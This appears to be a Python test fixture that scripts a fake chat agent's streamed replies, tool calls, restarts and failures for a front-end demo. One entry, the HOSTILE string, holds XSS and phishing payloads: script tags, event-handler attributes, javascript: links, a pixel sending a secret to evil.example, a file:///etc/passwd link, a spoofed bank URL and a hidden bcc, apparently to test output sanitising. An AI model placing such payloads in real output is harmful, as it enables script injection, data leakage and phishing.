"""What the fake gateway's agent says: short programs of frames, one per question, in the words of the demo's model."""

import re
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Say:
    """Text, one frame a piece, under one message id."""

    pieces: tuple[str, ...]
    message: str = "m1"
    delay: float = 0.0


@dataclass(frozen=True, slots=True)
class Use:
    """One tool call, with the time it takes by its timestamps."""

    tool: str
    arguments: str
    result: str
    milliseconds: int = 240
    failed: bool = False


@dataclass(frozen=True, slots=True)
class Think:
    """Reasoning before a text."""

    pieces: tuple[str, ...]
    message: str = "m1"


@dataclass(frozen=True, slots=True)
class Gate:
    """Wait until the test opens the gates."""


@dataclass(frozen=True, slots=True)
class Restart:
    """A new epoch: everything after the first `keep` frames is void; None voids all."""

    keep: int | None


@dataclass(frozen=True, slots=True)
class Replace:
    """A resync: the whole text so far, for those who missed a part of it."""

    content: str
    lost: str = ""


@dataclass(frozen=True, slots=True)
class Fail:
    code: str
    message: str


type Step = Say | Think | Use | Gate | Restart | Replace | Fail


def words(text: str) -> tuple[str, ...]:
    """Cut into pieces as a model streams them; joined they are the text again."""
    return tuple(re.findall(r"\S+\s*|\s+", text))


MARKDOWN = """\
## What I can show

A paragraph with **bold**, *italic*, ~~struck~~ and `inline code`, and a [link to the specification](https://spec.commonmark.org/).

| Service | Requests | Errors | p95 |
|:--|--:|--:|--:|
| api-gateway | 12,480 | 3 | 41 ms |
| agent-service | 9,112 | 0 | 1.9 s |
| request-manager | 12,480 | 1 | 12 ms |

1. First, a numbered list
2. with a second item
   - and something nested

- [x] streams
- [ ] sleeps

> A quotation, for good measure.

```python
import asyncio

async def greet(name: str, times: int = 3) -> None:
    \"\"\"Say hello, more than once.\"\"\"
    for n in range(times):
        print(f"{n}: hello {name}")  # one a second
        await asyncio.sleep(1)
```

![a chart of the week](https://pictures.example/chart.png)
"""

STORY = "\n\n".join(
    f"Chapter {n}. The harbour of boat {n} lay still, and the crew counted ropes until the tide came in. "
    f"Somebody sang. By the time the lamp was lit, {n} gulls had settled on the mast and nobody minded."
    for n in range(1, 17)
)

HOSTILE = """\
<script>window.pwned = 1</script><img src="https://evil.example/a.png" onerror="window.pwned = 2">

<iframe src="https://evil.example/frame"></iframe> <b onclick="window.pwned=3">bold?</b>

![pixel](https://evil.example/pixel.gif?secret=1) ![data](data:image/svg+xml,<svg/onload=alert(1)>)

[script](javascript:window.pwned=4) [tab](java&#x09;script:window.pwned=5) [data](data:text/html,x) [file](file:///etc/passwd)

[here](/api/v1/sessions) [there](//evil.example/x) [https://bank.example](https://evil.example/login) [user](https://bank.example@evil.example/)

<https://safe.example/page> and [write to us](mailto:crew@safe.example?bcc=spy@evil.example)

- a &lt;b&gt; &amp; c &copy;
"""


RULES = """\
The rules say:

| Boat | Berth |
|--|--|
| Ada | 4 |

```sh
flotilla up
```

and then """

SCRIPTS: dict[str, tuple[Step, ...]] = {
    "What time is it?": (
        Say(words("Let me look at the clock."), "m1"),
        Use("clock.now", '{"timezone":"UTC"}', '{"time":"14:02:31","timezone":"UTC"}'),
        Say(words("It is 14:02 UTC."), "m2"),
    ),
    "What is 12.5 % of 480?": (
        Use("calculator.evaluate", '{"expression":"480 * 0.125"}', "60", 38),
        Say(words("12.5 % of 480 is **60**.")),
    ),
    "Show me some Markdown": (Say(words(MARKDOWN), delay=0.002),),
    "Tell me a long story": (Say(words(STORY), delay=0.006),),
    "hostile": (Say(words(HOSTILE)),),
    "gate": (Say(words("Before the gate. ")), Gate(), Say(words("After the gate."))),
    "tool gate": (
        Say(words("I look it up.")),
        Use("search.documents", '{"query":"harbour rules","limit":3}', '[{"title":"Rules","page":4}]', 1900),
        Say(words(RULES), "m2"),
        Gate(),
        Say(words("more of it."), "m2"),
    ),
    "failing tool": (
        Think(words("The person wants the tide at a harbour. I have a tool for that, and need its name.")),
        Say(words("I look up the tide.")),
        Use("tide.lookup", '{"harbour":"Atlantis"}', "There is no harbour named 'Atlantis'.", 62, failed=True),
        Say(words("I know no harbour of that name. Which one do you mean?"), "m2"),
    ),
    "restart": (
        Say(words("Kept words. ")),
        Use("clock.now", "{}", "noon"),
        Say(words("Void words that a dead worker said. "), "m2"),
        Gate(),
        Restart(keep=8),
        Say(words("New words."), "m3"),
    ),
    "resync": (
        Say(words("The beginning, ")),
        Replace("The beginning, the middle, ", "the middle, "),
        Say(words("the end.")),
    ),
    "fail": (
        Say(words("I begin, but ")),
        Fail("model_unavailable", "The model's provider answered with status 500 three times."),
    ),
    "table slowly": (Say(words(MARKDOWN), delay=0.02),),
}


def script_for(content: str) -> tuple[Step, ...]:
    """The program for a question; anything unknown is answered with its own words."""
    return SCRIPTS.get(content, (Say(words(f"You said: {content}"), delay=0.005),))
